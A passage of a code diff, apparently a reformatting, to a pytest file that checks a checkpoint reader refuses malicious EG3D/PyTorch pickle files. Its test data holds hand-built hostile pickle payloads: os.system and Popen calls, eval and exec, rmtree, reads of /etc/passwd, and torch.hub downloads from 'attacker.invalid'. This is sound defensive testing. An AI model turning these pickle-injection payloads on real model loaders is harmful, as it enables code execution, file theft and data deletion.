@@ -5,6 +5,7 @@ global where a global is refused), leave the canary file uncreated, import nothi
 never reach the dangerous functions (they are replaced by recorders for the test).
 Over 400 lines as one file on purpose: one opcode toolkit and one side-effect guard for every case.
 """
+
 from __future__ import annotations
 
 import contextlib
@@ -25,11 +26,11 @@ from unittest import mock
 import numpy as np
 import pytest
 import torch
+from eg3d_pickle import GlobalName, Reduce, module_state, persistent, write_eg3d_pickle
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
-
-from eg3d_pickle import GlobalName, Reduce, module_state, persistent, write_eg3d_pickle
 from test_checkpoint import snapshot_reads_cleanly_or_refuses
+
 from renderer.checkpoint import read_checkpoint
 from renderer.checkpoint.eg3d_pickle import ModuleStub, SnapshotUnpickler
 from renderer.checkpoint.spec import ModelSpec
@@ -74,17 +75,29 @@ def in_snapshot(payload: bytes) -> bytes:
     return P4 + EMPTY_DICT + su('G_ema') + payload + SETITEM + STOP
 
 
-LEGACY_HEADER = (pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
-                 + pickle.dumps({'protocol_version': 1001, 'little_endian': True,
-                                 'type_sizes': {'short': 2, 'int': 4, 'long': 4}}, protocol=2))
+LEGACY_HEADER = (
+    pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
+    + pickle.dumps(1001, protocol=2)
+    + pickle.dumps(
+        {'protocol_version': 1001, 'little_endian': True, 'type_sizes': {'short': 2, 'int': 4, 'long': 4}}, protocol=2
+    )
+)
 
 
-def legacy_blob(numel: int, data: bytes, *, storage: str = 'FloatStorage', key: str = '0',
-                count: int | None = None, main: bytes | None = None) -> bytes:
+def legacy_blob(
+    numel: int,
+    data: bytes,
+    *,
+    storage: str = 'FloatStorage',
+    key: str = '0',
+    count: int | None = None,
+    main: bytes | None = None,
+) -> bytes:
     """A legacy torch.save stream of one storage, optionally lying about its size."""
     if main is None:
-        record = MARK + as_arg('storage') + g('torch', storage) + as_arg(key) + as_arg('cpu') \
-            + as_arg(numel) + NONE + b't'
+        record = (
+            MARK + as_arg('storage') + g('torch', storage) + as_arg(key) + as_arg('cpu') + as_arg(numel) + NONE + b't'
+        )
         main = P2 + record + b'Q' + STOP
     keys = pickle.dumps([key], protocol=2)
     return LEGACY_HEADER + main + keys + struct.pack('<q', numel if count is None else count) + data
@@ -94,11 +107,22 @@ def storage_call(blob: bytes) -> bytes:
     return sg('torch.storage', '_load_from_bytes') + binbytes(blob) + TUPLE1 + REDUCE
 
 
-def rebuild_call(blob: bytes, offset: object, size: object, stride: object,
-                 extra: bytes = b'') -> bytes:
-    return (sg('torch._utils', '_rebuild_tensor_v2') + MARK + storage_call(blob) + as_arg(offset)
-            + as_arg(size) + as_arg(stride) + b'\x89' + sg('collections', 'OrderedDict')
-            + EMPTY_TUPLE + REDUCE + extra + b't' + REDUCE)
+def rebuild_call(blob: bytes, offset: object, size: object, stride: object, extra: bytes = b'') -> bytes:
+    return (
+        sg('torch._utils', '_rebuild_tensor_v2')
+        + MARK
+        + storage_call(blob)
+        + as_arg(offset)
+        + as_arg(size)
+        + as_arg(stride)
+        + b'\x89'
+        + sg('collections', 'OrderedDict')
+        + EMPTY_TUPLE
+        + REDUCE
+        + extra
+        + b't'
+        + REDUCE
+    )
 
 
 FIVE_FLOATS = legacy_blob(5, struct.pack('<5f', 1, 2, 3, 4, 5))
@@ -109,8 +133,15 @@ def canary(tmp_path) -> Path:
     return tmp_path / 'CANARY'
 
 
-DANGEROUS = [(os, 'system'), (subprocess, 'Popen'), (torch, 'load'), (pickle, 'loads'), (shutil, 'rmtree'),
-             (np, 'load'), (importlib, 'import_module')]
+DANGEROUS = [
+    (os, 'system'),
+    (subprocess, 'Popen'),
+    (torch, 'load'),
+    (pickle, 'loads'),
+    (shutil, 'rmtree'),
+    (np, 'load'),
+    (importlib, 'import_module'),
+]
 
 
 @contextlib.contextmanager
@@ -123,7 +154,9 @@ def no_side_effects(canary: Path):
         def record(*args, **kwargs):
             calls.append(name)
             raise RuntimeError(f'{name} must never be called by the reader')
+
         return record
+
     with contextlib.ExitStack() as stack:
         for owner, name in DANGEROUS:
             stack.enter_context(mock.patch.object(owner, name, recorder(f'{owner.__name__}.{name}')))
@@ -165,8 +198,10 @@ def corpus_summary():
     if MEASURED:
         worst_t = max(MEASURED, key=lambda m: m[1])
         worst_m = max(MEASURED, key=lambda m: m[2])
-        print(f'\n[hostile corpus] {len(MEASURED)} files refused with CheckpointError; slowest '
-              f'{worst_t[1] * 1000:.0f} ms ({worst_t[0]}); largest peak {worst_m[2] / 2**20:.2f} MiB ({worst_m[0]})')
+        print(
+            f'\n[hostile corpus] {len(MEASURED)} files refused with CheckpointError; slowest '
+            f'{worst_t[1] * 1000:.0f} ms ({worst_t[0]}); largest peak {worst_m[2] / 2**20:.2f} MiB ({worst_m[0]})'
+        )
     if FUZZ_RUNS[0]:
         print(f'[hostile fuzz] {FUZZ_RUNS[0]} spliced snapshots read: CheckpointError or a clean read only')
 
@@ -196,6 +231,7 @@ def refused(tmp_path: Path, data: bytes, *words: str) -> str:
 
 # --------------------------------------------------------------------------- refused globals
 
+
 def touch(canary: Path) -> str:
     return f'touch {canary}'
 
@@ -205,82 +241,179 @@ def py_touch(canary: Path) -> str:
 
 
 HOSTILE_GLOBALS = {
-    'os.system GLOBAL + REDUCE': (lambda c: P2 + g('os', 'system') + as_arg(touch(c)) + TUPLE1
-                                  + REDUCE + STOP, 'os.system'),
-    'posix.system': (lambda c: P2 + g('posix', 'system') + as_arg(touch(c)) + TUPLE1 + REDUCE + STOP,
-                     'posix.system'),
-    'builtins.eval STACK_GLOBAL': (lambda c: P4 + sg('builtins', 'eval') + su(py_touch(c)) + TUPLE1
-                                   + REDUCE + STOP, 'builtins.eval'),
-    'builtins.exec': (lambda c: P4 + sg('builtins', 'exec') + su(py_touch(c)) + TUPLE1 + REDUCE + STOP,
-                      'builtins.exec'),
-    '__builtin__.eval (python 2 name)': (lambda c: P2 + g('__builtin__', 'eval') + as_arg(py_touch(c))
-                                         + TUPLE1 + REDUCE + STOP, '__builtin__.eval'),
+    'os.system GLOBAL + REDUCE': (
+        lambda c: P2 + g('os', 'system') + as_arg(touch(c)) + TUPLE1 + REDUCE + STOP,
+        'os.system',
+    ),
+    'posix.system': (lambda c: P2 + g('posix', 'system') + as_arg(touch(c)) + TUPLE1 + REDUCE + STOP, 'posix.system'),
+    'builtins.eval STACK_GLOBAL': (
+        lambda c: P4 + sg('builtins', 'eval') + su(py_touch(c)) + TUPLE1 + REDUCE + STOP,
+        'builtins.eval',
+    ),
+    'builtins.exec': (
+        lambda c: P4 + sg('builtins', 'exec') + su(py_touch(c)) + TUPLE1 + REDUCE + STOP,
+        'builtins.exec',
+    ),
+    '__builtin__.eval (python 2 name)': (
+        lambda c: P2 + g('__builtin__', 'eval') + as_arg(py_touch(c)) + TUPLE1 + REDUCE + STOP,
+        '__builtin__.eval',
+    ),
     'builtins.getattr': (lambda c: P4 + sg('builtins', 'getattr') + STOP, 'builtins.getattr'),
-    'subprocess.Popen': (lambda c: P4 + sg('subprocess', 'Popen') + as_arg((['touch', str(c)],))
-                         + REDUCE + STOP, 'subprocess.Popen'),
+    'subprocess.Popen': (
+        lambda c: P4 + sg('subprocess', 'Popen') + as_arg((['touch', str(c)],)) + REDUCE + STOP,
+        'subprocess.Popen',
+    ),
     'INST os.system': (lambda c: P2 + b'(V' + touch(c).encode() + b'\nios\nsystem\n.', 'os.system'),
-    'OBJ os.system': (lambda c: P2 + b'(' + g('os', 'system') + b'V' + touch(c).encode() + b'\no.',
-                      'os.system'),
-    'NEWOBJ of a refused class': (lambda c: P4 + sg('subprocess', 'Popen')
-                                  + as_arg((['touch', str(c)],)) + NEWOBJ + STOP, 'subprocess.Popen'),
-    'importlib.import_module': (lambda c: P4 + sg('importlib', 'import_module') + su('os') + TUPLE1
-                                + REDUCE + STOP, 'importlib.import_module'),
+    'OBJ os.system': (lambda c: P2 + b'(' + g('os', 'system') + b'V' + touch(c).encode() + b'\no.', 'os.system'),
+    'NEWOBJ of a refused class': (
+        lambda c: P4 + sg('subprocess', 'Popen') + as_arg((['touch', str(c)],)) + NEWOBJ + STOP,
+        'subprocess.Popen',
+    ),
+    'importlib.import_module': (
+        lambda c: P4 + sg('importlib', 'import_module') + su('os') + TUPLE1 + REDUCE + STOP,
+        'importlib.import_module',
+    ),
     'pickle.loads of a nested pickle': (
-        lambda c: P4 + sg('pickle', 'loads') + binbytes(P2 + g('os', 'system') + as_arg(touch(c))
-                                                        + TUPLE1 + REDUCE + STOP)
-        + TUPLE1 + REDUCE + STOP, 'pickle.loads'),
-    '_pickle.loads': (lambda c: P4 + sg('_pickle', 'loads') + binbytes(b'N.') + TUPLE1 + REDUCE + STOP,
-                      '_pickle.loads'),
-    'shutil.rmtree': (lambda c: P4 + sg('shutil', 'rmtree') + su(str(c.parent / 'victim')) + TUPLE1
-                      + REDUCE + STOP, 'shutil.rmtree'),
-    'torch.load': (lambda c: P4 + sg('torch', 'load') + su(str(c)) + TUPLE1 + REDUCE + STOP,
-                   'torch.load'),
-    'torch.serialization.load': (lambda c: P4 + sg('torch.serialization', 'load') + su(str(c)) + TUPLE1
-                                 + REDUCE + STOP, 'torch.serialization.load'),
-    'numpy.load': (lambda c: P4 + sg('numpy', 'load') + su(str(c)) + TUPLE1 + REDUCE + STOP,
-                   'numpy.load'),
+        lambda c: (
+            P4
+            + sg('pickle', 'loads')
+            + binbytes(P2 + g('os', 'system') + as_arg(touch(c)) + TUPLE1 + REDUCE + STOP)
+            + TUPLE1
+            + REDUCE
+            + STOP
+        ),
+        'pickle.loads',
+    ),
+    '_pickle.loads': (
+        lambda c: P4 + sg('_pickle', 'loads') + binbytes(b'N.') + TUPLE1 + REDUCE + STOP,
+        '_pickle.loads',
+    ),
+    'shutil.rmtree': (
+        lambda c: P4 + sg('shutil', 'rmtree') + su(str(c.parent / 'victim')) + TUPLE1 + REDUCE + STOP,
+        'shutil.rmtree',
+    ),
+    'torch.load': (lambda c: P4 + sg('torch', 'load') + su(str(c)) + TUPLE1 + REDUCE + STOP, 'torch.load'),
+    'torch.serialization.load': (
+        lambda c: P4 + sg('torch.serialization', 'load') + su(str(c)) + TUPLE1 + REDUCE + STOP,
+        'torch.serialization.load',
+    ),
+    'numpy.load': (lambda c: P4 + sg('numpy', 'load') + su(str(c)) + TUPLE1 + REDUCE + STOP, 'numpy.load'),
     'numpy _reconstruct (object arrays)': (
-        lambda c: P4 + sg('numpy.core.multiarray', '_reconstruct') + sg('numpy', 'ndarray')
-        + as_arg(((0,), b'b')) + REDUCE + STOP, 'numpy.core.multiarray._reconstruct'),
-    'copyreg._reconstructor': (lambda c: P2 + g('copyreg', '_reconstructor') + g('os', 'system')
-                               + STOP, 'copyreg._reconstructor'),
-    'torch.hub.load': (lambda c: P4 + sg('torch.hub', 'load') + su('attacker/repo') + su('model')
-                       + TUPLE2 + REDUCE + STOP, 'torch.hub.load'),
-    'torch.hub.load_state_dict_from_url': (lambda c: P4 + sg('torch.hub', 'load_state_dict_from_url')
-                                           + su('http://attacker.invalid/x.pt') + TUPLE1 + REDUCE + STOP,
-                                           'torch.hub.load_state_dict_from_url'),
-    'torch.hub.download_url_to_file': (lambda c: P4 + sg('torch.hub', 'download_url_to_file')
-                                       + su('http://attacker.invalid/x') + su(str(c)) + TUPLE2 + REDUCE
-                                       + STOP, 'torch.hub.download_url_to_file'),
-    'numpy.fromfile': (lambda c: P4 + sg('numpy', 'fromfile') + su('/etc/passwd') + TUPLE1 + REDUCE + STOP,
-                       'numpy.fromfile'),
-    'numpy.loadtxt': (lambda c: P4 + sg('numpy', 'loadtxt') + su('/etc/passwd') + TUPLE1 + REDUCE + STOP,
-                      'numpy.loadtxt'),
-    'numpy.lib.format.read_array': (lambda c: P4 + sg('numpy.lib.format', 'read_array') + su(str(c))
-                                    + TUPLE1 + REDUCE + STOP, 'numpy.lib.format.read_array'),
-    'builtins.open (writes a file)': (lambda c: P4 + sg('builtins', 'open') + su(str(c)) + su('w') + TUPLE2
-                                      + REDUCE + STOP, 'builtins.open'),
-    'builtins.__import__': (lambda c: P4 + sg('builtins', '__import__') + su('os') + TUPLE1 + REDUCE + STOP,
-                            'builtins.__import__'),
-    'os.remove': (lambda c: P4 + sg('os', 'remove') + su(str(c.parent / 'victim')) + TUPLE1 + REDUCE + STOP,
-                  'os.remove'),
-    'runpy.run_path': (lambda c: P4 + sg('runpy', 'run_path') + su(str(c)) + TUPLE1 + REDUCE + STOP,
-                       'runpy.run_path'),
-    'marshal.loads': (lambda c: P4 + sg('marshal', 'loads') + binbytes(b'\xe3') + TUPLE1 + REDUCE + STOP,
-                      'marshal.loads'),
+        lambda c: (
+            P4
+            + sg('numpy.core.multiarray', '_reconstruct')
+            + sg('numpy', 'ndarray')
+            + as_arg(((0,), b'b'))
+            + REDUCE
+            + STOP
+        ),
+        'numpy.core.multiarray._reconstruct',
+    ),
+    'copyreg._reconstructor': (
+        lambda c: P2 + g('copyreg', '_reconstructor') + g('os', 'system') + STOP,
+        'copyreg._reconstructor',
+    ),
+    'torch.hub.load': (
+        lambda c: P4 + sg('torch.hub', 'load') + su('attacker/repo') + su('model') + TUPLE2 + REDUCE + STOP,
+        'torch.hub.load',
+    ),
+    'torch.hub.load_state_dict_from_url': (
+        lambda c: (
+            P4
+            + sg('torch.hub', 'load_state_dict_from_url')
+            + su('http://attacker.invalid/x.pt')
+            + TUPLE1
+            + REDUCE
+            + STOP
+        ),
+        'torch.hub.load_state_dict_from_url',
+    ),
+    'torch.hub.download_url_to_file': (
+        lambda c: (
+            P4
+            + sg('torch.hub', 'download_url_to_file')
+            + su('http://attacker.invalid/x')
+            + su(str(c))
+            + TUPLE2
+            + REDUCE
+            + STOP
+        ),
+        'torch.hub.download_url_to_file',
+    ),
+    'numpy.fromfile': (
+        lambda c: P4 + sg('numpy', 'fromfile') + su('/etc/passwd') + TUPLE1 + REDUCE + STOP,
+        'numpy.fromfile',
+    ),
+    'numpy.loadtxt': (
+        lambda c: P4 + sg('numpy', 'loadtxt') + su('/etc/passwd') + TUPLE1 + REDUCE + STOP,
+        'numpy.loadtxt',
+    ),
+    'numpy.lib.format.read_array': (
+        lambda c: P4 + sg('numpy.lib.format', 'read_array') + su(str(c)) + TUPLE1 + REDUCE + STOP,
+        'numpy.lib.format.read_array',
+    ),
+    'builtins.open (writes a file)': (
+        lambda c: P4 + sg('builtins', 'open') + su(str(c)) + su('w') + TUPLE2 + REDUCE + STOP,
+        'builtins.open',
+    ),
+    'builtins.__import__': (
+        lambda c: P4 + sg('builtins', '__import__') + su('os') + TUPLE1 + REDUCE + STOP,
+        'builtins.__import__',
+    ),
+    'os.remove': (
+        lambda c: P4 + sg('os', 'remove') + su(str(c.parent / 'victim')) + TUPLE1 + REDUCE + STOP,
+        'os.remove',
+    ),
+    'runpy.run_path': (lambda c: P4 + sg('runpy', 'run_path') + su(str(c)) + TUPLE1 + REDUCE + STOP, 'runpy.run_path'),
+    'marshal.loads': (
+        lambda c: P4 + sg('marshal', 'loads') + binbytes(b'\xe3') + TUPLE1 + REDUCE + STOP,
+        'marshal.loads',
+    ),
     'ctypes.CDLL': (lambda c: P4 + sg('ctypes', 'CDLL') + su('libc.so.6') + TUPLE1 + REDUCE + STOP, 'ctypes.CDLL'),
-    'NEWOBJ_EX of a refused class': (lambda c: P4 + sg('subprocess', 'Popen') + as_arg((['touch', str(c)],))
-                                     + EMPTY_DICT + NEWOBJ_EX + STOP, 'subprocess.Popen'),
+    'NEWOBJ_EX of a refused class': (
+        lambda c: P4 + sg('subprocess', 'Popen') + as_arg((['touch', str(c)],)) + EMPTY_DICT + NEWOBJ_EX + STOP,
+        'subprocess.Popen',
+    ),
     'memo: module and name strings fetched back for STACK_GLOBAL': (
-        lambda c: P4 + su('os') + MEMOIZE + su('system') + MEMOIZE + b'00' + BINGET0 + b'\x00' + BINGET0
-        + b'\x01' + b'\x93' + su(touch(c)) + TUPLE1 + REDUCE + STOP, 'os.system'),
-    'torch.Tensor in the outer pickle': (lambda c: P4 + sg('torch', 'FloatStorage') + STOP,
-                                         'torch.FloatStorage'),
+        lambda c: (
+            P4
+            + su('os')
+            + MEMOIZE
+            + su('system')
+            + MEMOIZE
+            + b'00'
+            + BINGET0
+            + b'\x00'
+            + BINGET0
+            + b'\x01'
+            + b'\x93'
+            + su(touch(c))
+            + TUPLE1
+            + REDUCE
+            + STOP
+        ),
+        'os.system',
+    ),
+    'torch.Tensor in the outer pickle': (lambda c: P4 + sg('torch', 'FloatStorage') + STOP, 'torch.FloatStorage'),
     'hidden deep inside a snapshot': (
-        lambda c: in_snapshot(sg('torch_utils.persistence', '_reconstruct_persistent_obj')
-                              + EMPTY_DICT + MARK + su('state') + EMPTY_DICT + su('x')
-                              + sg('os', 'system') + su(touch(c)) + TUPLE1 + REDUCE
-                              + SETITEM + b'u' + TUPLE1 + REDUCE), 'os.system'),
+        lambda c: in_snapshot(
+            sg('torch_utils.persistence', '_reconstruct_persistent_obj')
+            + EMPTY_DICT
+            + MARK
+            + su('state')
+            + EMPTY_DICT
+            + su('x')
+            + sg('os', 'system')
+            + su(touch(c))
+            + TUPLE1
+            + REDUCE
+            + SETITEM
+            + b'u'
+            + TUPLE1
+            + REDUCE
+        ),
+        'os.system',
+    ),
 }
 
 
@@ -294,13 +427,16 @@ def test_refused_globals(tmp_path, canary, case):
 
 
 def test_refused_global_inside_a_valid_snapshot(tmp_path, canary):
-    spec = ModelSpec(init_kwargs={'z_dim': 4}, rendering_kwargs={
-        'superresolution_module': 'training.superresolution.SuperresolutionHybrid8XDC'},
-        neural_rendering_resolution=64)
+    spec = ModelSpec(
+        init_kwargs={'z_dim': 4},
+        rendering_kwargs={'superresolution_module': 'training.superresolution.SuperresolutionHybrid8XDC'},
+        neural_rendering_resolution=64,
+    )
     path = tmp_path / 'snap.pkl'
     trap = Reduce(GlobalName('os', 'system'), (touch(canary),))
-    write_eg3d_pickle(path, spec, {'decoder.net.0.weight': torch.ones(2, 2)}, module_src='',
-                      extra_top={'augment_pipe': trap})
+    write_eg3d_pickle(
+        path, spec, {'decoder.net.0.weight': torch.ones(2, 2)}, module_src='', extra_top={'augment_pipe': trap}
+    )
     with pytest.raises(CheckpointError, match=r"refused global 'os\.system'"):
         read_checkpoint(path)
 
@@ -314,29 +450,76 @@ def test_global_names_are_sanitised_in_messages(tmp_path):
     assert '\x1b' not in message and len(message) < 600
 
 
-@pytest.mark.parametrize('data,words', [
-    (P4 + BINGET0 + b'\x07' + STOP, 'corrupt'),                                # memo slot never filled
-    (P4 + LONG_BINGET + struct.pack('<I', 2**32 - 1) + STOP, 'corrupt'),       # 4 G-entry memo index
-    (P2 + b'g999999999999\n' + STOP, 'corrupt'),                               # text GET, huge index
-    (P4 + sg('collections', 'OrderedDict') + MEMOIZE + b'0' + su('x') + MEMOIZE + b'0'
-     + BINGET0 + b'\x01' + EMPTY_TUPLE + REDUCE + STOP, 'corrupt'),           # memo slot swapped to a str
-    (P4 + NONE + b'r' + struct.pack('<I', 2**31) + STOP, 'memo index 2147483648 runs ahead'),
-    (P2 + NONE + b'p4000000000\n' + STOP, 'memo index 4000000000 runs ahead'),
-    (P4 + storage_call(legacy_blob(1, b'\x00' * 4, main=P2 + NONE + b'r' + struct.pack('<I', 2**30) + STOP))
-     + STOP, 'runs ahead'),
-], ids=['unset slot', 'huge LONG_BINGET', 'huge text GET', 'callable swapped for a str', 'huge LONG_BINPUT',
-        'huge text PUT', 'huge LONG_BINPUT in a storage blob'])
+@pytest.mark.parametrize(
+    'data,words',
+    [
+        (P4 + BINGET0 + b'\x07' + STOP, 'corrupt'),  # memo slot never filled
+        (P4 + LONG_BINGET + struct.pack('<I', 2**32 - 1) + STOP, 'corrupt'),  # 4 G-entry memo index
+        (P2 + b'g999999999999\n' + STOP, 'corrupt'),  # text GET, huge index
+        (
+            P4
+            + sg('collections', 'OrderedDict')
+            + MEMOIZE
+            + b'0'
+            + su('x')
+            + MEMOIZE
+            + b'0'
+            + BINGET0
+            + b'\x01'
+            + EMPTY_TUPLE
+            + REDUCE
+            + STOP,
+            'corrupt',
+        ),  # memo slot swapped to a str
+        (P4 + NONE + b'r' + struct.pack('<I', 2**31) + STOP, 'memo index 2147483648 runs ahead'),
+        (P2 + NONE + b'p4000000000\n' + STOP, 'memo index 4000000000 runs ahead'),
+        (
+            P4
+            + storage_call(legacy_blob(1, b'\x00' * 4, main=P2 + NONE + b'r' + struct.pack('<I', 2**30) + STOP))
+            + STOP,
+            'runs ahead',
+        ),
+    ],
+    ids=[
+        'unset slot',
+        'huge LONG_BINGET',
+        'huge text GET',
+        'callable swapped for a str',
+        'huge LONG_BINPUT',
+        'huge text PUT',
+        'huge LONG_BINPUT in a storage blob',
+    ],
+)
 def test_memo_tricks(tmp_path, data, words):
     refused(tmp_path, data, words)
 
 
 def generator_with_init_kwargs(init_kwargs: bytes) -> bytes:
     """A snapshot whose G_ema is a persistent TriPlaneGenerator with the opcodes `init_kwargs` as its kwargs."""
-    return in_snapshot(sg('torch_utils.persistence', '_reconstruct_persistent_obj') + EMPTY_DICT + MARK
-                       + su('type') + su('class') + su('version') + as_arg(6) + su('class_name')
-                       + su('TriPlaneGenerator') + su('state') + EMPTY_DICT + MARK
-                       + su('_init_kwargs') + init_kwargs + su('rendering_kwargs') + EMPTY_DICT
-                       + su('neural_rendering_resolution') + as_arg(64) + b'u' + b'u' + TUPLE1 + REDUCE)
+    return in_snapshot(
+        sg('torch_utils.persistence', '_reconstruct_persistent_obj')
+        + EMPTY_DICT
+        + MARK
+        + su('type')
+        + su('class')
+        + su('version')
+        + as_arg(6)
+        + su('class_name')
+        + su('TriPlaneGenerator')
+        + su('state')
+        + EMPTY_DICT
+        + MARK
+        + su('_init_kwargs')
+        + init_kwargs
+        + su('rendering_kwargs')
+        + EMPTY_DICT
+        + su('neural_rendering_resolution')
+        + as_arg(64)
+        + b'u'
+        + b'u'
+        + TUPLE1
+        + REDUCE
+    )
 
 
 def test_memo_built_self_reference_in_settings(tmp_path):
@@ -353,11 +536,19 @@ def test_extension_codes_are_refused(tmp_path):
 
 # --------------------------------------------------------------------------- abusing allowed names
 
+
 def test_build_tricks_on_an_allowed_stub(tmp_path):
-    state = (EMPTY_DICT + MARK + su('__class__') + sg('training.volumetric_rendering.renderer',
-                                                      'ImportanceRenderer')
-             + su('__setstate__') + sg('collections', 'OrderedDict')
-             + su('__reduce__') + sg('numpy', 'dtype') + b'u')
+    state = (
+        EMPTY_DICT
+        + MARK
+        + su('__class__')
+        + sg('training.volumetric_rendering.renderer', 'ImportanceRenderer')
+        + su('__setstate__')
+        + sg('collections', 'OrderedDict')
+        + su('__reduce__')
+        + sg('numpy', 'dtype')
+        + b'u'
+    )
     stub = sg('training.triplane', 'OSGDecoder') + EMPTY_TUPLE + NEWOBJ + state + BUILD
     data = in_snapshot(stub)
     refused(tmp_path, data, 'not an EG3D tri-plane generator (class OSGDecoder)')
@@ -367,36 +558,73 @@ def test_build_tricks_on_an_allowed_stub(tmp_path):
     # a second BUILD, or a (dict, slotstate) pair aiming at attributes, is refused
     twice = in_snapshot(stub + EMPTY_DICT + BUILD)
     refused(tmp_path, twice, 'invalid module state')
-    slot = sg('training.triplane', 'OSGDecoder') + EMPTY_TUPLE + NEWOBJ + NONE + EMPTY_DICT + su(
-        '__class__') + sg('collections', 'OrderedDict') + SETITEM + TUPLE2 + BUILD
+    slot = (
+        sg('training.triplane', 'OSGDecoder')
+        + EMPTY_TUPLE
+        + NEWOBJ
+        + NONE
+        + EMPTY_DICT
+        + su('__class__')
+        + sg('collections', 'OrderedDict')
+        + SETITEM
+        + TUPLE2
+        + BUILD
+    )
     refused(tmp_path, in_snapshot(slot), 'invalid module state')
 
 
 SLOT_STATE_CLASS_SWAP = NONE + EMPTY_DICT + su('__class__') + sg('dnnlib.util', 'EasyDict') + SETITEM + TUPLE2
 
 
-@pytest.mark.parametrize('target', [
-    sg('collections', 'OrderedDict') + EMPTY_TUPLE + REDUCE,
-    sg('dnnlib.util', 'EasyDict') + EMPTY_TUPLE + NEWOBJ,
-    sg('torch_utils.persistence', '_reconstruct_persistent_obj') + EMPTY_DICT + MARK
-    + su('type') + su('class') + su('version') + as_arg(6) + su('class_name')
-    + su('TriPlaneGenerator') + su('state') + EMPTY_DICT + b'u' + TUPLE1 + REDUCE,
-    sg('torch._utils', '_rebuild_tensor_v2'),
-    sg('numpy', 'dtype') + as_arg(('f8', False, True)) + REDUCE,
-], ids=['OrderedDict', 'EasyDict', 'persistent node', 'function', 'numpy dtype'])
+@pytest.mark.parametrize(
+    'target',
+    [
+        sg('collections', 'OrderedDict') + EMPTY_TUPLE + REDUCE,
+        sg('dnnlib.util', 'EasyDict') + EMPTY_TUPLE + NEWOBJ,
+        sg('torch_utils.persistence', '_reconstruct_persistent_obj')
+        + EMPTY_DICT
+        + MARK
+        + su('type')
+        + su('class')
+        + su('version')
+        + as_arg(6)
+        + su('class_name')
+        + su('TriPlaneGenerator')
+        + su('state')
+        + EMPTY_DICT
+        + b'u'
+        + TUPLE1
+        + REDUCE,
+        sg('torch._utils', '_rebuild_tensor_v2'),
+        sg('numpy', 'dtype') + as_arg(('f8', False, True)) + REDUCE,
+    ],
+    ids=['OrderedDict', 'EasyDict', 'persistent node', 'function', 'numpy dtype'],
+)
 def test_build_on_other_allowed_objects(tmp_path, target):
     """(dict, slotstate) BUILD would setattr __class__; every allowed object refuses it."""
     refused(tmp_path, in_snapshot(target + SLOT_STATE_CLASS_SWAP + BUILD))
 
 
 def test_stub_construction_with_arguments(tmp_path, canary):
-    refused(tmp_path, in_snapshot(sg('torch.nn.modules.activation', 'Softplus') + as_arg((touch(canary),))
-                                  + NEWOBJ), 'unexpected construction')
+    refused(
+        tmp_path,
+        in_snapshot(sg('torch.nn.modules.activation', 'Softplus') + as_arg((touch(canary),)) + NEWOBJ),
+        'unexpected construction',
+    )
 
 
 def test_numpy_object_dtype_scalar(tmp_path):
-    data = P4 + sg('numpy._core.multiarray', 'scalar') + sg('numpy', 'dtype') + as_arg(('O8', False, True)) \
-        + REDUCE + as_arg(b'\x00' * 8) + TUPLE2 + REDUCE + STOP
+    data = (
+        P4
+        + sg('numpy._core.multiarray', 'scalar')
+        + sg('numpy', 'dtype')
+        + as_arg(('O8', False, True))
+        + REDUCE
+        + as_arg(b'\x00' * 8)
+        + TUPLE2
+        + REDUCE
+        + STOP
+    )
     refused(tmp_path, data, "numpy dtype 'O8' is not allowed")
 
 
@@ -406,16 +634,18 @@ def test_numpy_dtype_with_fields_state(tmp_path):
     refused(tmp_path, data, 'plain numeric dtype')
 
 
-@pytest.mark.parametrize('meta,words', [
-    ({'type': 'function', 'version': 6, 'class_name': 'X', 'state': {}}, 'type "class"'),
-    ({'type': 'class', 'version': 5, 'class_name': 'X', 'state': {}}, 'persistence version 5'),
-    ({'type': 'class', 'version': 6, 'class_name': 'os.system', 'state': {}}, 'class_name'),
-    ({'type': 'class', 'version': 6, 'class_name': 'X', 'state': None}, 'no state dict'),
-    ({'type': 'class', 'version': 6, 'class_name': 'X', 'state': {}, 'exec': 'x'}, 'unexpected keys'),
-])
+@pytest.mark.parametrize(
+    'meta,words',
+    [
+        ({'type': 'function', 'version': 6, 'class_name': 'X', 'state': {}}, 'type "class"'),
+        ({'type': 'class', 'version': 5, 'class_name': 'X', 'state': {}}, 'persistence version 5'),
+        ({'type': 'class', 'version': 6, 'class_name': 'os.system', 'state': {}}, 'class_name'),
+        ({'type': 'class', 'version': 6, 'class_name': 'X', 'state': None}, 'no state dict'),
+        ({'type': 'class', 'version': 6, 'class_name': 'X', 'state': {}, 'exec': 'x'}, 'unexpected keys'),
+    ],
+)
 def test_persistent_meta_is_validated(tmp_path, meta, words):
-    data = in_snapshot(sg('torch_utils.persistence', '_reconstruct_persistent_obj')
-                       + as_arg((meta,)) + REDUCE)
+    data = in_snapshot(sg('torch_utils.persistence', '_reconstruct_persistent_obj') + as_arg((meta,)) + REDUCE)
     refused(tmp_path, data, words)
 
 
@@ -425,6 +655,7 @@ def test_outer_persistent_ids(tmp_path):
 
 
 # --------------------------------------------------------------------------- storage blobs
+
 
 def hostile_main(canary: Path) -> bytes:
     return P2 + g('os', 'system') + as_arg(touch(canary)) + TUPLE1 + REDUCE + STOP
@@ -439,32 +670,69 @@ def test_hostile_nested_blob(tmp_path, canary, where):
     refused(tmp_path, P4 + storage_call(blob) + STOP, "refused global 'os.system' in a storage blob")
 
 
-@pytest.mark.parametrize('blob,words', [
-    (legacy_blob(5, b'\x00' * 20, storage='ComplexFloatStorage'), 'ComplexFloatStorage is not supported'),
-    (legacy_blob(5, b'\x00' * 20, storage='UntypedStorage'), "refused global 'torch.UntypedStorage'"),
-    (legacy_blob(5, b'\x00' * 20, count=6), 'element count does not match'),
-    (legacy_blob(5, b'\x00' * 19), 'holds 19 bytes'),
-    (legacy_blob(5, b'\x00' * 24), 'holds 24 bytes'),
-    (legacy_blob(-1, b''), 'invalid element count'),
-    (b'not a legacy stream at all', 'corrupt'),
-    (pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
-     + pickle.dumps({'little_endian': False}, protocol=2) + legacy_blob(5, b'\x00' * 20)[len(LEGACY_HEADER):],
-     'not little-endian'),
-    (pickle.dumps(1234, protocol=2) + FIVE_FLOATS, 'bad magic number'),
-    (LEGACY_HEADER[:-1], 'truncated'),
-    (legacy_blob(5, b'\x00' * 20, main=P2 + as_arg(5) + STOP), 'exactly one storage'),
-    (legacy_blob(5, b'\x00' * 20, main=P2 + MARK + as_arg('storage') + g('torch', 'FloatStorage')
